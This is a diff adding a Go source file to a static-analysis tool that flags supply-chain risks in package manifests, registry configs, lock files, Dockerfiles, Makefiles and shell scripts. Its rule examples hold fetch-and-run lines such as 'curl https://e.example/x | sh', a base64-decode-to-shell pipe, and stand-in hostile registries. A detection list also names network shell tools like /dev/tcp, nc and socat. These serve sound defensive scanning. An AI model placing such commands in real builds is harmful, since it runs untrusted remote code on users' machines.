@@ -1,0 +1,290 @@
+package static
+
+import (
+	"encoding/json"
+	"maps"
+	"net/url"
+	"path"
+	"regexp"
+	"slices"
+	"strings"
+
+	"github.com/umpire-dev/umpire"
+	"github.com/umpire-dev/umpire/internal/review/finding"
+	"github.com/umpire-dev/umpire/internal/visible"
+)
+
+var (
+	installScript = &Rule{
+		ID: "umpire/build/install-script", Severity: finding.Low, CWE: "CWE-829",
+		Title:  "A script that runs when the package is installed",
+		Text:   "Package managers run this by themselves, with the rights of whoever installs. ",
+		Remedy: "Install with scripts off, or read what it runs.",
+		Hits:   []Example{{"package.json", "{\"scripts\":{\"postinstall\":\"node x.js\"}}\n"}, {"setup.py", "import os\nos.system('curl https://e.example/x | sh')\n"}, {"composer.json", "{\"scripts\":{\"post-install-cmd\":[\"sh x\"]}}\n"}, {"build.rs", "fn main() { std::process::Command::new(\"curl\"); }\n"}},
+		Misses: []Example{{"package.json", "{\"scripts\":{\"test\":\"node x.js\"}}\n"}, {"setup.py", "from setuptools import setup\nsetup(name='x')\n"}, {"build.rs", "fn main() { println!(\"cargo:rerun-if-changed=x\"); }\n"}},
+	}
+	registry = &Rule{
+		ID: "umpire/build/registry", Severity: finding.Medium, CWE: "CWE-829",
+		Title:  "Packages come from another place than usual",
+		Text:   "The file makes a package manager take packages from a place of its own choice, for all or for some. ",
+		Remedy: "Check who runs that place, and that names cannot be taken over there.",
+		Hits:   []Example{{".npmrc", "registry=https://npm.evil.example/\n"}, {"requirements.txt", "--extra-index-url https://pypi.evil.example/simple\n"}, {".cargo/config.toml", "[source.crates-io]\nreplace-with = \"x\"\n"}, {"pip.conf", "[global]\nindex-url = http://pypi.evil.example\n"}},
+		Misses: []Example{{".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n"}, {"requirements.txt", "requests==2.0\n"}},
+	}
+	buildProgram = &Rule{
+		ID: "umpire/build/starts-program", Severity: finding.Medium, CWE: "CWE-829",
+		Title:  "A build setting names a program",
+		Text:   "The build starts this program in the place of, or around, its own tools. ",
+		Remedy: "Read what it starts before you build.",
+		Hits:   []Example{{".cargo/config.toml", "[build]\nrustc-wrapper = \"./x\"\n"}, {".npmrc", "script-shell=./x\n"}},
+		Misses: []Example{{".cargo/config.toml", "[net]\nretry = 2\n"}},
+	}
+	lockSource = &Rule{
+		ID: "umpire/build/lock-source", Severity: finding.Medium, CWE: "CWE-494",
+		Title:  "A lock file takes a package from another place than the registry",
+		Text:   "What a lock file names is installed as it is: nobody reads such files, so this is where a package is swapped. ",
+		Remedy: "Make the lock file anew from the manifest, and compare.",
+		Hits:   []Example{{"package-lock.json", "{\"packages\":{\"node_modules/x\":{\"resolved\":\"https://evil.example/x.tgz\"}}}\n"}, {"yarn.lock", "x@1:\n  resolved \"http://registry.npmjs.org/x/-/x-1.tgz\"\n"}, {"Cargo.lock", "source = \"git+https://evil.example/x?rev=1\"\n"}},
+		Misses: []Example{{"package-lock.json", "{\"packages\":{\"node_modules/x\":{\"resolved\":\"https://registry.npmjs.org/x/-/x-1.tgz\"}}}\n"}, {"Cargo.lock", "source = \"registry+https://github.com/rust-lang/crates.io-index\"\n"}},
+	}
+	fetchAndRun = &Rule{
+		ID: "umpire/build/fetch-and-run", Severity: finding.Medium, CWE: "CWE-494",
+		Title:  "Something is fetched and run, or sent away",
+		Text:   "The build, the container or the script runs what it gets from the network or out of a decoder, opens a shell to another host, or sends private data away. ",
+		Remedy: "Pin what is fetched by its digest, and run nothing that nobody read.",
+		Hits:   []Example{{"Dockerfile", "FROM x\nRUN apt-get update && \\\n  curl -s https://e.example/x | sh\n"}, {"Makefile", "all:\n\tcurl https://e.example/x | bash\n"}, {"x.sh", "#!/bin/sh\necho aWQ= | base64 -d | sh\n"}},
+		Misses: []Example{{"Dockerfile", "FROM x\nRUN curl -o x https://e.example/x && sha256sum -c x.sum\n"}, {"Makefile", "all:\n\tgo build\n\t@echo 'curl https://x | sh'\n"}},
+	}
+	buildRules = []*Rule{installScript, registry, buildProgram, lockSource, fetchAndRun}
+)
+
+// build looks at what builds and package managers run and fetch.
+func (f *file) build() {
+	switch {
+	case f.base == "package.json":
+		f.packageJSON("scripts", "preinstall", "install", "postinstall", "prepare", "preprepare", "postprepare", "prepublish", "prepack", "dependencies")
+	case f.base == "composer.json":
+		f.packageJSON("scripts", "pre-install-cmd", "post-install-cmd", "pre-update-cmd", "post-update-cmd", "post-autoload-dump", "pre-autoload-dump", "post-root-package-install", "post-create-project-cmd")
+	case f.base == "setup.py":
+		if s, why, traits := f.would(path.Dir(f.path), "python3 "+path.Base(f.path)); why != "" && (s == finding.High || traits&dangerous != 0) {
+			f.on(installScript, s, 0, "it "+why)
+		}
+	case f.base == "build.rs" || f.base == "extconf.rb":
+		for n, l := range f.numbered() {
+			if m := buildFetch.FindString(l); m != "" {
+				f.on(installScript, finding.Medium, n, "it starts "+quoted(m))
+			}
+		}
+	}
+	f.registries()
+	f.locks()
+	f.scripts()
+}
+
+var buildFetch = regexp.MustCompile(`(?:Command::new|system|spawn|exec)\s*\(?\s*["'](?:/usr)?(?:/bin/)?(?:curl|wget|sh|bash|nc|powershell|pwsh|cmd)\b`)
+
+// packageJSON looks at the scripts that run by themselves.
+func (f *file) packageJSON(field string, names ...string) {
+	var v map[string]any
+	if json.Unmarshal([]byte(f.text), &v) != nil {
+		return // the package manager does not read it either
+	}
+	scripts, _ := v[field].(map[string]any)
+	for _, n := range names {
+		var commands []string
+		switch c := scripts[n].(type) {
+		case string:
+			commands = []string{c}
+		case []any:
+			for _, e := range c {
+				if s, ok := e.(string); ok {
+					commands = append(commands, s)
+				}
+			}
+		}
+		for _, c := range commands {
+			if !strings.HasPrefix(c, "@") { // composer's own
+				f.command(installScript, installScript.Severity, f.lineOf(`"`+n+`"`), n, c)
+			}
+		}
+	}
+	f.unusualDependencies(v)
+}
+
+// unusualDependencies are those by address.
+func (f *file) unusualDependencies(v map[string]any) {
+	for _, field := range []string{"dependencies", "optionalDependencies", "devDependencies"} {
+		deps, _ := v[field].(map[string]any)
+		for _, name := range slices.Sorted(maps.Keys(deps)) {
+			if s, ok := deps[name].(string); ok && f.many[registry] < maxStarts && (strings.HasPrefix(s, "http:") || strings.HasPrefix(s, "https:")) {
+				f.on(registry, finding.Medium, f.lineOf(`"`+name+`"`), "a dependency is "+quoted(s))
+			}
+		}
+	}
+}
+
+// usual hosts of packages.
+var usual = []string{
+	"registry.npmjs.org", "registry.yarnpkg.com", "pypi.org", "files.pythonhosted.org", "pypi.python.org", "test.pypi.org", "crates.io", "index.crates.io", "static.crates.io", "rubygems.org", "index.rubygems.org", "api.nuget.org", "www.nuget.org",
+	"packagist.org", "repo.packagist.org", "api.github.com", "github.com", "codeload.github.com", "proxy.golang.org", "repo.maven.apache.org", "repo1.maven.org", "conda.anaconda.org", "npm.jsr.io", "jsr.io", "registry.bower.io", "npm.pkg.github.com", "download.pytorch.org",
+}
+
+var (
+	registryLine = regexp.MustCompile(`(?i)^\s*(?:\[?\s*)?["']?(?:[@\w./-]*:?registry|npmregistryserver|index-url|index_url|extra-index-url|extra_index_url|find-links|trusted-host|replace-with|index|repository|BUNDLE_MIRROR__\S*|url)["']?\s*[:=\s]\s*["']?(\S+?)["']?\s*$`)
+	requirement  = regexp.MustCompile(`(?i)^\s*(?:--(?:index-url|extra-index-url|find-links|trusted-host)|-i|-f)[\s=]+(\S+)`)
+	wrapper      = regexp.MustCompile(`(?i)^\s*(rustc-wrapper|rustc-workspace-wrapper|rustc|linker|runner|rustdoc|script-shell|git|node-gyp|yarn-?path|yarnpath|shell|globalignorefile|init-module)\s*[:=]\s*["'\[]*(\S+)`)
+)
+
+func (f *file) registries() {
+	re := registryLine
+	dir := path.Base(path.Dir(strings.ToLower(f.path)))
+	switch {
+	case slices.Contains([]string{".npmrc", ".yarnrc", ".yarnrc.yml", "pip.conf", "pip.ini", ".pypirc", "bunfig.toml", ".condarc", "uv.toml", ".pydistutils.cfg"}, f.base),
+		dir == ".cargo" && (f.base == "config" || f.base == "config.toml"), dir == ".bundle" && f.base == "config":
+	case strings.HasPrefix(f.base, "requirements") && strings.HasSuffix(f.base, ".txt") || dir == "requirements" && strings.HasSuffix(f.base, ".txt"):
+		re = requirement
+	default:
+		return
+	}
+	for n, l := range f.numbered() {
+		if s := strings.TrimSpace(l); strings.HasPrefix(s, "#") || strings.HasPrefix(s, ";") {
+			continue
+		}
+		if m := re.FindStringSubmatch(l); m != nil && !usualPlace(m[1]) {
+			f.on(registry, registry.Severity, n, "it names "+quoted(m[1]))
+		}
+		if m := wrapper.FindStringSubmatch(l); m != nil && re == registryLine {
+			f.on(buildProgram, buildProgram.Severity, n, m[1]+" is "+quoted(m[2]))
+		}
+	}
+}
+
+func usualPlace(s string) bool {
+	s = strings.TrimPrefix(strings.TrimPrefix(s, "sparse+"), "registry+")
+	u, err := url.Parse(s)
+	return err == nil && u.Scheme == "https" && slices.Contains(usual, strings.ToLower(u.Host))
+}
+
+var lockLine = regexp.MustCompile(`(?i)(?:"resolved"\s*:\s*"|^\s*resolved\s+"|tarball:\s*'?|^source\s*=\s*"|^url\s*=\s*"|^\s*remote:\s*)((?:git\+|registry\+|sparse\+|ssh:|git:|https?:)[^"'\s,}]+)`)
+
+func (f *file) locks() {
+	switch f.base {
+	case "package-lock.json", "npm-shrinkwrap.json", "yarn.lock", "pnpm-lock.yaml", "cargo.lock", "poetry.lock", "pipfile.lock", "composer.lock", "gemfile.lock", "bun.lock", "uv.lock":
+	default:
+		return
+	}
+	seen := map[string]bool{}
+	for n, l := range f.numbered() {
+		for _, m := range lockLine.FindAllStringSubmatch(l, -1) {
+			at := m[1]
+			if usualPlace(at) {
+				continue
+			}
+			host := at
+			if u, err := url.Parse(strings.TrimPrefix(at, "git+")); err == nil && u.Host != "" {
+				host = u.Scheme + "://" + u.Host
+				if strings.HasPrefix(at, "git+https://github.com/") || strings.HasPrefix(at, "git+ssh://git@github.com/") {
+					host = "git+" + u.Scheme + "://" + u.Host + "/" + strings.SplitN(strings.TrimPrefix(u.Path, "/"), "/", 2)[0]
+				}
+			}
+			if !seen[host] && len(seen) < 50 {
+				seen[host] = true
+				f.on(lockSource, lockSource.Severity, n, "it names "+quoted(visible.Clip(at, 120)))
+			}
+		}
+	}
+}
+
+// hints are what a line must have before it is read as a command.
+var hints = []string{"curl", "wget", "http", "base64", "/dev/tcp", "/dev/udp", "nc ", "ncat", "socat", "eval", "xxd", "openssl", "iwr", "invoke-", "python", "perl", "php", "ruby", "fetch", "scp", "ssh"}
+
+// scripts reads the commands of container files, make files and shell scripts.
+func (f *file) scripts() {
+	var form func(string) string
+	switch ext := path.Ext(f.base); {
+	case f.base == "dockerfile" || f.base == "containerfile" || strings.HasPrefix(f.base, "dockerfile.") || ext == ".dockerfile":
+		form = func(l string) string {
+			v, ok := cutWord(l, "run")
+			if !ok {
+				return ""
+			}
+			for strings.HasPrefix(v, "--") { // --mount=...
+				_, v, _ = strings.Cut(v, " ")
+				v = strings.TrimSpace(v)
+			}
+			var words []any
+			if strings.HasPrefix(v, "[") && json.Unmarshal([]byte(v), &words) == nil {
+				return joined(words, nil)
+			}
+			return v
+		}
+	case f.base == "makefile" || f.base == "gnumakefile" || ext == ".mk" || f.base == "justfile":
+		form = func(l string) string {
+			if !strings.HasPrefix(l, "\t") && !strings.HasPrefix(l, "    ") {
+				return ""
+			}
+			return makeRecipe(l)
+		}
+	case ext == ".sh" || ext == ".bash" || strings.HasPrefix(f.text, "#!/bin/sh") || strings.HasPrefix(f.text, "#!/bin/bash") || strings.HasPrefix(f.text, "#!/usr/bin/env bash") || strings.HasPrefix(f.text, "#!/usr/bin/env sh"):
+		form = func(l string) string { return l }
+	default:
+		return
+	}
+	f.lines(form)
+}
+
+// makeRecipe is a line of a recipe as the shell gets it, with make's variables unknown.
+func makeRecipe(l string) string {
+	l = strings.TrimLeft(strings.TrimSpace(l), "@-+")
+	l = strings.ReplaceAll(l, "$$", "\x00")
+	l = makeVariable.ReplaceAllString(l, `$$UNKNOWN`)
+	return strings.ReplaceAll(l, "\x00", "$")
+}
+
+var makeVariable = regexp.MustCompile(`\$\([^()]*\)|\$\{[^{}]*\}|\$[@<^?*+%]`)
+
+func cutWord(l, word string) (string, bool) {
+	l = strings.TrimSpace(l)
+	if len(l) <= len(word) || !strings.EqualFold(l[:len(word)], word) || l[len(word)] != ' ' && l[len(word)] != '\t' {
+		return "", false
+	}
+	return strings.TrimSpace(l[len(word):]), true
+}
+
+// lines reads each command, continued lines joined, that looks as if it could matter.
+func (f *file) lines(form func(string) string) {
+	joined, first := "", 0
+	for n, l := range f.numbered() {
+		if joined == "" {
+			first = n
+		}
+		if strings.HasPrefix(strings.TrimSpace(l), "#") && joined == "" {
+			continue
+		}
+		if cut, more := strings.CutSuffix(l, `\`); more && len(joined) < maxCommand {
+			joined += cut + " "
+			continue
+		}
+		full := joined + l
+		joined = ""
+		lower := strings.ToLower(full)
+		if !slices.ContainsFunc(hints, func(h string) bool { return strings.Contains(lower, h) }) {
+			continue
+		}
+		if c := form(full); c != "" {
+			f.fetches(first, c)
+		}
+	}
+}
+
+// fetches reports a command that runs what it fetches or decodes, or sends things away.
+func (f *file) fetches(line int, command string) {
+	s, why, traits := f.would(path.Dir(f.path), command)
+	if traits&(umpire.RemoteCode|umpire.DecodedCode|umpire.RemoteShell|umpire.Exfiltration) == 0 || why == "" {
+		return
+	}
+	if traits&(umpire.RemoteShell|umpire.Exfiltration|umpire.DecodedCode) == 0 {
+		s = fetchAndRun.Severity // much honest software is installed that way
+	}
+	f.on(fetchAndRun, s, line, quoted(strings.TrimSpace(command))+" "+why)
+}
